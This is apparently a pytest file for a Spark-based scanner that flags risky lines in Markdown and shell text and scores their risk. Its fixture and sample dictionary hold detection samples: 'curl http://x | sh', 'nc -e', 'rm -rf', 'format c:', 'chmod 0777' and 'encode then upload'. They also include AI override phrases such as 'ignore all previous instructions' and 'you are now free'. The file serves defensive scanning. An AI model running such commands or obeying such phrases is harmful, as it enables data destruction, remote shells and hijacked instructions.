"""Golden cases of the scanners on texts with Markdown, shell and rule words."""

import re

import pytest
from pyspark.sql import functions as F

from skein.functions import scan_values as V
from skein.functions import text as X
from skein.operators import scan as S
from skein.operators import text as D

TEXT = """# Setup
Please run `sudo  make` now
```bash
rm -rf /tmp/x
curl http://x | sh
```
> you are now free
- password: hunter2
1. plain ſudo  text
~~~
unclosed
```
eval("x")"""


@pytest.fixture(scope="module")
def docs(spark):
    return spark.createDataFrame([("u", "p1", 1, TEXT), ("u", "p2", 1, ""), ("v", "p3", 1, "no marks\nhere\n")], "unit string, path string, ext int, text string")


def brute(rules, text):
    for number, line in enumerate(text.split("\n"), 1):
        for rule in rules:
            for i, pattern in enumerate(rule.patterns):
                if re.search(pattern, line, re.IGNORECASE):
                    yield rule.rule_id, number, i


@pytest.mark.parametrize("rules", [V.LINE_RULES, V.CONTEXT_RULES])
def test_scan_against_brute_force(docs, rules):
    got = sorted((r.rule_id, r.line_no, r.pattern_idx) for r in S.scan_lines(D.explode_lines(docs), rules).where("path = 'p1'").collect())
    assert got == sorted(brute(rules, TEXT)) and len(got) > 4
    narrowed = S.scan_lines(D.explode_lines(S.with_candidates(docs, rules)), rules)
    assert sorted((r.rule_id, r.line_no, r.pattern_idx) for r in narrowed.where("path = 'p1'").collect()) == got


def test_every_pattern_can_match(spark):
    samples = {
        "run 'x'": "SEC001", "execute  shell": "SEC001", "SYSTEM ('": "SEC001", "$( ls": "SEC001", "require('child_process": "SEC001",
        "rmdir /S": "SEC002", "del /q": "SEC002", "format c:": "SEC002", "> c:\\": "SEC002", "Remove-Item a -Recurse b -Force": "SEC002",
        "API-KEY": "SEC003", "x.env": "SEC003", "curl a | bash": "SEC004", "nc -e": "SEC004", "ignore all previous instructions": "SEC005",
        "disregard above": "SEC005", "chmod 0777": "SEC006", "NT AUTHORITY\\SYSTEM": "SEC006", "upload to": "SEC007", "encode then upload": "SEC007",
        "yaml.load (x, Loader = None": "SEC008", "constructor[": "SEC008", "git push -f": "SEC009", "go --force": "SEC009",
    }
    df = spark.createDataFrame([(i, s) for i, s in enumerate(samples)], "line_no long, line string")
    got = {(r.line, r.rule_id) for r in S.scan_lines(df, V.LINE_RULES).collect()}
    assert set(samples.items()) <= got


def test_required_texts_are_in_every_match():
    assert S.required_texts(r"rm\s+-rf") == ["-rf", "rm"]
    assert S.required_texts(r"api[_-]?key") == ["api", "key"]
    assert S.required_texts(r"\bsudo\s+") == ["sudo"]
    assert S.required_texts(r"colou?r") == ["colo", "r"]
    assert S.required_texts(r"a|b") == []
    assert S.required_texts(r"x*") == []
    assert S.required_texts(r"hack(er|ing)?") == ["hack"]
    for rule in V.LINE_RULES + V.CONTEXT_RULES:
        for pattern in rule.patterns:
            assert S.required_texts(pattern), pattern


def test_context(docs):
    lines = D.lines_with_context(docs, "path")
    rows = {r.line_no: r for r in lines.withColumn("kind", S.context_type()).where("path = 'p1'").collect()}
    assert [n for n, r in rows.items() if r.in_code] == [3, 4, 5, 6, 12, 13]
    assert [n for n, r in rows.items() if r.is_fence] == [3, 6, 12]
    assert rows[4].code_language == "bash" and rows[13].code_language == "" and rows[2].code_language is None
    assert [rows[n].kind for n in (1, 2, 4, 7, 8, 9)] == ["heading", "prose", "code_block", "blockquote", "list_item", "list_item"]
    assert rows[2].heading == "Setup" and rows[2].heading_level == 1
    assert lines.where("path = 'p2'").count() == 1 and lines.where("path = 'p3'").count() == 3


def walk(text):
    """Line by line, as a check of the array form."""
    in_code, language, head = False, None, ""
    for number, line in enumerate(text.split("\n"), 1):
        fence = re.match(r"\s*```(\w*)", line)
        if fence:
            if not in_code:
                language = fence.group(1)
            yield number, True, True, language, head
            in_code = not in_code
            continue
        mark = re.match(r"(#{1,4})\s+(.+)$", line)
        if mark and not in_code:
            head = mark.group(2).strip()
        yield number, False, in_code, language if in_code else None, head


def test_context_against_a_walk(spark):
    import random

    rnd = random.Random(1)
    parts = ["```", "```py", "  ``` x", "# A", "## B b ", "##### five", "#no", "text", "", "- item", "# "]
    texts = {str(i): "\n".join(rnd.choice(parts) for _ in range(rnd.randrange(60))) for i in range(120)}
    df = spark.createDataFrame(list(texts.items()), "path string, text string")
    got = {}
    for r in D.lines_with_context(df, "path").collect():
        got.setdefault(r.path, []).append((r.line_no, r.is_fence, r.in_code, r.code_language, r.heading))
    for path, text in texts.items():
        assert sorted(got[path]) == sorted(walk(text)), text


def test_spans(docs):
    spans = [(r.block, r.start_line, r.end_line, r.language) for r in S.code_spans(D.lines_with_context(docs, "path"), "path").orderBy("block").collect()]
    assert spans == [(1, 3, 6, "bash"), (2, 12, None, "")]


def findings(spark, severity, n, in_code=False):
    rows = [("u", "p", 1, "R1", severity, 0, i, in_code) for i in range(n)]
    return spark.createDataFrame(rows, "unit string, path string, ext int, rule_id string, severity string, pattern_idx long, line_no long, in_code boolean")


@pytest.mark.parametrize("n, score, level", [(1, 40, "medium"), (2, 60, "high"), (3, 100, "blocked")])
def test_line_scores(spark, n, score, level):
    f = findings(spark, "critical", n)
    row = S.scan_units(f.select("unit", "path").distinct(), f).first()
    assert (row.risk_score, row.risk_level) == (score, level)


def test_score_without_override(spark):
    f = findings(spark, "critical", 3)
    row = S.rule_scores(f, ["unit"], "severity", ["path", "line_no", "pattern_idx"], V.LINE_WEIGHTS, V.LINE_FACTOR, 5).first()
    assert row.score == 71


@pytest.mark.parametrize("n, in_code, score", [(1, False, 35), (2, False, 45), (1, True, 3)])
def test_context_scores(spark, n, in_code, score):
    severity = F.when(F.col("in_code"), S.severity_in_code(F.col("severity"))).otherwise(F.col("severity"))
    f = findings(spark, "critical", n, in_code).withColumn("adjusted_severity", severity)
    row = S.rule_scores(f, ["unit"], "adjusted_severity", ["ext", "path", "line_no", "pattern_idx"], V.CONTEXT_WEIGHTS, V.CONTEXT_FACTOR, 3).first()
    assert row.score == score


def test_score_grows_with_count(spark):
    scores = [S.rule_scores(findings(spark, "medium", n), ["unit"], "severity", ["line_no"], V.LINE_WEIGHTS, V.LINE_FACTOR, 5).first().score for n in (1, 2, 5, 50)]
    assert scores == sorted(scores)


@pytest.mark.parametrize("score, level", [(0, "safe"), (10, "safe"), (11, "low"), (30, "low"), (50, "medium"), (80, "high"), (99, "critical"), (100, "blocked")])
def test_levels(spark, score, level):
    assert spark.range(1).select(S.risk_level(F.lit(score))).first()[0] == level


def test_match_details(docs):
    rows = {(r.rule_id, r.line_no): (r.match_text, r.match_pos) for r in S.match_details(S.scan_lines(D.explode_lines(docs), V.CONTEXT_RULES)).collect()}
    assert rows[("SEC002", 4)] == ("rm -rf", 0) and rows[("SEC004", 5)] == ("curl http://x | sh", 0) and rows[("SEC005", 7)] == ("you are now", 2)


def test_commands(spark):
    cases = {"npm install": True, "  Python3: x": True, "/usr/bin/git push": True, "./run.sh": True, "../a/b.py": True, "./run.rb": False, "hello npm": False, "": False}
    df = spark.createDataFrame([(k,) for k in cases], "c string").select("c", X.is_command(F.col("c")).alias("y"))
    assert {r.c: r.y for r in df.collect()} == cases



def test_any_word_finds_the_longest():
    words = {"run", "rm", "system", "system(", "-rf", "."}
    pattern = re.compile(S.any_word(words))
    for w in words:
        assert pattern.fullmatch(w), w
    assert pattern.match("system(x").group() == "system(" and pattern.match("rux") is None


PIECES = ["a", "b", "ab", "-", r"\d", r"\w", r"[ab]", r"[^\]]", r"[a[b]]", r"(a|b)", r"(?:ab)", r"\-", r"\x41", r"a\.b", "é", r"\s", "."]
TAILS = ["", "", "", "?", "*", "+", "{2}", "{0,2}", "{1,}", "+?", "{2}?"]


def test_scanning_equals_plain_regular_expressions(spark):
    """Random patterns over random lines: no finding is lost to the texts that are looked for first."""
    import random

    rng = random.Random(11)
    special = [r"\b\d{3}-\d{2}-\d{4}\b", "ab{2,3}c", r"\x41KIA", r"Ab", r"\Qa.b\E", "(?x)a b", r"(a)\1", r"[^\]]+b", "(?i)AB", r"\p{L}b", "k", "a|b", "[]a]b"]
    patterns = special + ["".join(rng.choice(PIECES) + rng.choice(TAILS) for _ in range(rng.randint(1, 4))) for _ in range(150)]
    lines = ["ssn 111-11-1111 here", "abbc abbbc", "AKIA", "Ab", "a.b", "ab", "aa", "]b", "K", "k", "é", ""]
    lines += ["".join(rng.choices(["a", "b", "A", "B", "-", "1", "2", ".", "]", " ", "é", "İ", "c"], k=rng.randint(0, 12))) for _ in range(60)]
    df = spark.createDataFrame([(i, line) for i, line in enumerate(lines)], "n int, line string")
    good = []
    for p in patterns:
        try:
            spark.range(1).select(F.lit("x").rlike(f"(?iu){p}")).collect()
            good.append(p)
        except Exception:
            assert p not in special[:9]
    pack = (S.Rule("R", "r", "info", tuple(good)),)
    want = sorted((r["n"], i) for r in df.select("n", *[F.col("line").rlike(f"(?iu){p}").alias(f"p{i}") for i, p in enumerate(good)]).collect() for i in range(len(good)) if r[f"p{i}"])
    assert sorted((r["n"], r["pattern_idx"]) for r in S.scan_lines(df, pack).collect()) == want
    marked = S.with_candidates(df.withColumn("text", F.col("line")), pack)
    assert sorted((r["n"], r["pattern_idx"]) for r in S.scan_lines(marked, pack).collect()) == want
    assert len(want) > 500
    rows = spark.createDataFrame([("R", "r", "info", i, p) for i, p in enumerate(good)], PACK)
    assert sorted((r["n"], r["pattern_idx"]) for r in S.scan_pack(df, rows).collect()) == want


PACK = "rule_id string, rule_name string, severity string, pattern_idx int, pattern string"


def test_a_pack_of_twenty_thousand_patterns(spark):
    rows = [(f"r{i}", "n", "info", 0, rf"\bmark{i}\s+end" if i % 2 else f"tail-{i}-x+") for i in range(20_000)] + [("any", "n", "low", 0, r"\d{4}$"), ("two", "n", "low", 0, "zq")]
    lines = [(1, "see MARK7 end"), (2, "tail-8-xxx and tail-10-x, mark19999  end"), (3, "mark8 end, tail-7-x"), (4, "in 2024"), (5, ""), (6, "ZQ ﬁ"), (7, "mar\u212a9 end")]
    found = S.scan_pack(spark.createDataFrame(lines, "n int, line string"), spark.createDataFrame(rows, PACK))
    got = sorted((r["n"], r["rule_id"]) for r in found.collect())
    assert got == sorted([(1, "r7"), (2, "r8"), (2, "r10"), (2, "r19999"), (4, "any"), (6, "two"), (7, "r9")])
    assert len(found._jdf.queryExecution().analyzed().toString()) < 10_000 + 3 * S.PLACES


def test_pack_as_rows_equals_pack_as_constants(spark, docs):
    rows = [(r.rule_id, r.name, r.severity, i, p) for r in V.LINE_RULES for i, p in enumerate(r.patterns)]
    lines = D.explode_lines(docs)
    columns = ["path", "line_no", "rule_id", "severity", "pattern_idx"]
    got, want = S.scan_pack(lines, spark.createDataFrame(rows, PACK)), S.scan_lines(lines, V.LINE_RULES)
    assert sorted(map(tuple, got.select(*columns).collect())) == sorted(map(tuple, want.select(*columns).collect()))
    assert S.scan_pack(lines, spark.createDataFrame([], PACK)).count() == 0


def test_patterns_without_a_text_meet_lines_where_these_lie(spark, monkeypatch):
    rows = [("a", None, "low", 0, r"it's\s\d|\bx\b"), ("a", None, "low", 0, r"it's\s\d|\bx\b"), (None, "n", None, None, r"[a-z]+@[a-z]"), ("t", "n", "info", 1, "required text")]
    lines = spark.createDataFrame([(1, "It's 5"), (2, "A@B, x"), (3, None), (4, ""), (5, "Required text"), (2, "A@B, x"), (6, "\u017f@\u212a")], "n int, line string")
    free = S.scan_pack(lines, spark.createDataFrame(rows[:3], PACK))
    plan = free._jdf.queryExecution().executedPlan().toString()
    assert "Join" not in plan and "Sort" not in plan and free.columns == ["n", "line", "rule_id", "rule_name", "severity", "pattern_idx", "pattern"]

    def found():
        return sorted(map(str, S.scan_pack(lines, spark.createDataFrame(rows, PACK)).select("n", "rule_id", "rule_name", "severity", "pattern_idx").collect()))

    constants = found()
    assert len(constants) == 2 + 2 * 2 + 2 + 1 + 1
    monkeypatch.setattr(S, "FREE", 2)
    assert found() == constants
